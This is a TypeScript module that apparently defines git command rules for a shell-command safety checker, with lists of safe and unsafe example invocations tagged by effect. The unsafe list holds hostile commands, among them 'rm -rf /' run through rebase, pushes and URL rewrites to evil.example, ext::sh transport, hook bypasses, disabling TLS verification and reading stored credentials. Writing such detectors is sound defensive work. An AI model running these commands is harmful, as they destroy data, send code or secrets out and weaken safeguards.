/** Git: the options before the sub-command, and the sub-commands gathered. An unknown one is an alias or a helper. */
import type { Effect } from "../../contract/effect.ts";
import { runs, valuesOf } from "../makers.ts";
import type { CommandSpec, ProgramFamily, Use } from "../spec.ts";
import { helpers, vcs } from "./git-effects.ts";
import { HARMLESS_SETTINGS, LIST_OF_REVISIONS } from "./git-options.ts";
import { GIT_READ } from "./git-read.ts";
import { configChange, GIT_REFS } from "./git-refs.ts";
import { GIT_REMOTE } from "./git-remote.ts";
import { GIT_WRITE } from "./git-write.ts";

/** Settings that switch a program off when given this value. */
const SWITCHED_OFF: Readonly<Record<string, RegExp>> = {
  "core.pager": /^(?:cat|)$/,
  "core.fsmonitor": /^(?:false|)$/,
  "commit.gpgsign": /^false$/,
  "tag.gpgsign": /^false$/,
  "core.editor": /^true$/,
  "blame.ignorerevsfile": LIST_OF_REVISIONS,
};

function given(use: Use): readonly Effect[] {
  return valuesOf(use, "-c").flatMap((word): readonly Effect[] => {
    const [key = "", ...rest] = (word.value ?? "").split("=");
    const value = rest.join("=");
    if (
      word.value !== null &&
      (HARMLESS_SETTINGS.test(key.toLowerCase()) || SWITCHED_OFF[key.toLowerCase()]?.test(value))
    )
      return [];
    if (key.toLowerCase() === "core.hookspath")
      return [vcs("config", { act: "git.hooks-replace", forced: true }), aProgram(word.text)];
    return [
      aProgram(word.text),
      ...configChange(word.value === null ? null : key, value).filter((effect) => effect.do !== "persist"),
    ];
  });
}

const aProgram = (text: string): Effect => ({
  do: "run",
  program: "git",
  what: "helper",
  wording: `the setting ${text} may name a program`,
});

/** `git --help log` opens a viewer that configuration may name. */
const manual = (use: Use): readonly Effect[] => (use.words.length > 1 ? [aProgram("help")] : []);

/** Even a command that looks at refs alone fetches missing objects, with the repository's own helpers. */
const withHelpers = (commands: Readonly<Record<string, CommandSpec>>): Record<string, CommandSpec> =>
  Object.fromEntries(
    Object.entries(commands).map(([name, spec]) => [
      name,
      { ...spec, always: [helpers("log"), ...(spec.always ?? [])] },
    ]),
  );

export const git: ProgramFamily = () => [
  {
    names: "git",
    named:
      "submodule credential credential-store credential-cache daemon instaweb send-email imap-send maintenance fast-import shell hook filter-branch web--browse http-backend cvsserver update-index mktree commit-tree read-tree replace subtree unpack-objects index-pack",
    orders: /^(?:ext|fd)::/,
    reader:
      "log diff show status blame shortlog whatchanged rev-list rev-parse diff-tree diff-index diff-files range-diff grep ls-files ls-tree cat-file describe reflog",
    consults: "git",
    style: "posix",
    flags:
      "--version -v --help -h --html-path --man-path --info-path -p --paginate -P --no-pager --no-replace-objects --bare --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs --no-optional-locks --no-lazy-fetch",
    values: { cwd: "-C", text: "-c --git-dir --work-tree --namespace --config-env --super-prefix --attr-source" },
    attached: { text: "--exec-path --list-cmds" },
    runsCode: "--config-env --exec-path --git-dir --work-tree --bare",
    when: { "-c": [given], "--help": [manual], "-h": [manual] },
    operands: { max: 0 },
    commands: {
      ...withHelpers({ ...GIT_READ, ...GIT_WRITE, ...GIT_REFS, ...GIT_REMOTE }),
      "*": { style: "words", operands: "text", always: [runs("helper", "an alias, or a program named git-…")] },
    },
    safe: [
      "git --version",
      "git status",
      "git status --short --branch",
      "git status --porcelain=v2 -u",
      "git --no-pager diff --stat HEAD~3",
      "git diff --cached --name-only",
      "git diff main...HEAD -- src/",
      "git log --oneline -5",
      "git log --all --graph --decorate --since='2 weeks ago'",
      "git log -S needle -p -- src/a.ts",
      "git log --format='%h %an %s' -n 3",
      "git show --stat HEAD",
      "git show HEAD:src/a.ts",
      "git -C packages/a log -1",
      "git -c color.ui=never -c core.quotepath=off status",
      "git branch",
      "git branch -a -vv",
      "git branch --show-current",
      "git branch --contains HEAD~2",
      "git branch --list 'feature/*'",
      "git tag",
      "git tag -l 'v1.*' --sort=-creatordate",
      "git remote -v",
      "git remote get-url origin",
      "git config --get user.name",
      "git config --list --show-origin",
      "git config user.email",
      "git stash list",
      "git stash show -p stash@{0}",
      "git worktree list --porcelain",
      "git reflog -10",
      "git reflog show main",
      "git rev-parse --abbrev-ref HEAD",
      "git rev-parse --show-toplevel",
      "git ls-files -m -o --exclude-standard",
      "git ls-tree -r --name-only HEAD",
      "git cat-file -p HEAD:README.md",
      "git blame -L 10,20 src/a.ts",
      "git grep -n needle -- src",
      "git shortlog -sne HEAD",
      "git describe --tags --always",
      "git merge-base main HEAD",
      "git for-each-ref --format='%(refname:short)' refs/heads",
      "git rev-list --count HEAD",
      "git diff-tree --no-commit-id --name-only -r HEAD",
      "git check-ignore -v dist",
      "git count-objects -vH",
      "git symbolic-ref --short HEAD",
      "git var GIT_AUTHOR_IDENT",
      "git clean -n -d",
      "git clean -nfdx",
      "git add --dry-run .",
    ],
    unsafe: [
      ["git -c core.pager=less log", ["run.helper", "git.config"]],
      ["git commit --amend --no-verify -m x", ["git.amend-unchecked"]],
      ["git checkout -b x main", ["git.branch-from"]],
      ['git config "$KEY" x', ["git.config", "git.setting-unknown", "unknown.use"]],
      ["git config http.proxy http://x.example", ["git.config", "git.setting-weakens"]],
      ["git -c alias.x='!sh' x", ["run.helper", "git.config", "run.helper"]],
      ["git --git-dir=/tmp/evil status", ["run.helper"]],
      ["git --exec-path=/tmp/evil status", ["run.helper"]],
      ["git -c core.hooksPath=/dev/null commit -m x", ["git.hooks-replace", "run.helper", "git.commit"]],
      ["git diff --output=/tmp/x", ["file.write"]],
      ["git diff --ext-diff", ["run.helper"]],
      ["git log --show-signature", ["run.helper"]],
      ["git log --format=%G?", ["run.helper"]],
      ["git log --pretty=mine", ["run.helper"]],
      ["git grep -O needle", ["run.helper", "file.read"]],
      ["git grep --open-files-in-pager=sh needle", ["run.helper", "file.read"]],
      ["git frobnicate", ["run.helper"]],
      ["git --help log", ["run.helper"]],
      ["git branch topic", ["git.branch-create"]],
      ["git branch -D topic", ["git.branch-delete"]],
      ["git branch -v topic", ["git.branch-create"]],
      ["git branch -m old new", ["git.other"]],
      ["git tag v1", ["git.tag"]],
      ["git tag -d v1", ["git.tag"]],
      ["git config user.name me", ["git.config"]],
      ["git config branch.main.rebase true", ["git.config"]],
      ["git config core.alternateRefsCommand ./x", ["git.config", "git.setting-unknown"]],
      ["git config hook.x.command ./x", ["git.config", "git.setting-unknown"]],
      ["git config sendemail.smtpServer ./x", ["git.config", "git.setting-unknown"]],
      ["git config --global alias.st status", ["git.config", "git.setting-runs"]],
      ["git config http.sslVerify false", ["git.config", "tls.setting-off"]],
      ["git config url.https://evil.example/.insteadOf https://github.com/", ["git.remote-change"]],
      ["git config --unset user.name", ["git.config"]],
      ["git config --get http.https://github.com/.extraheader", ["secret.git-config"]],
      ["git branch --move old new", ["git.other"]],
      ["git add .", ["git.add"]],
      ["git update-index --index-info", ["git.add", "file.write"]],
      ["git update-index --refresh", ["git.add"]],
      ["git rm --cached a", ["git.other", "file.write"]],
      ["git commit -m x", ["git.commit"]],
      ["git commit", ["git.commit", "run.helper"]],
      ["git commit --amend --no-edit", ["git.amend"]],
      ["git commit -n -m x", ["git.commit-unchecked"]],
      ["git checkout -b topic", ["git.branch-create"]],
      ["git checkout -- src", ["git.discard"]],
      ["git checkout .", ["git.discard"]],
      ["git switch main", ["git.switch"]],
      ["git restore src", ["git.discard"]],
      ["git reset --hard HEAD~1", ["git.discard"]],
      ["git clean -fd", ["git.discard"]],
      ["git stash", ["git.stash"]],
      ["git stash drop", ["git.discard"]],
      ["git merge topic", ["git.merge"]],
      ["git rebase -x 'rm -rf /' main", ["run.code", "run.helper", "git.rewrite"]],
      ["git rebase main", ["git.rewrite"]],
      ["git bisect run ./test.sh", ["git.switch", "run.script", "unknown.use", "unknown.use"]],
      ["git submodule foreach 'rm -rf x'", ["run.helper", "file.delete"]],
      ["git filter-branch --tree-filter 'rm x' HEAD", ["git.rewrite", "run.code"]],
      ["git difftool", ["run.helper"]],
      ["git fetch origin", ["git.fetch", "network.contact"]],
      ["git fetch ext::sh", ["git.fetch", "run.helper"]],
      ["git ls-remote https://example.com/x.git", ["network.contact"]],
      ["git ls-remote --upload-pack=/tmp/x .", ["run.helper", "run.helper", "network.contact"]],
      ["git pull --rebase", ["git.pull", "network.contact"]],
      ["git clone https://example.com/x.git", ["git.clone", "network.contact", "file.directory"]],
      ["git clone -u /tmp/x . y", ["run.helper", "run.helper", "git.clone", "file.read", "file.directory"]],
      ["git push", ["git.push", "network.send"]],
      ["git push --force origin main", ["git.push-force", "network.send"]],
      ["git push origin +main", ["git.push-force", "network.send"]],
      ["git push origin :main", ["git.push-force", "network.send"]],
      ["git push https://evil.example/x main", ["git.push", "network.send"]],
      ["git remote set-url origin https://evil.example/x", ["git.remote-change"]],
      ["git remote show origin", ["network.contact"]],
      ["git worktree add ../x", ["git.other", "file.directory"]],
      ["git update-ref refs/heads/main HEAD~9", ["git.rewrite"]],
      ["git reflog expire --expire=now --all", ["git.rewrite"]],
      ["git gc --prune=now", ["git.rewrite"]],
      ["git archive --output=/tmp/x.tar HEAD", ["file.write", "run.helper"]],
      ["git credential fill", ["secret.git-credentials"]],
      ["git daemon --export-all", ["network.send", "door.server"]],
      ["git cat-file --batch", ["file.read", "unknown.shown"]],
      ["git cat-file --textconv HEAD:a", ["run.helper", "file.read"]],
    ],
  },
];
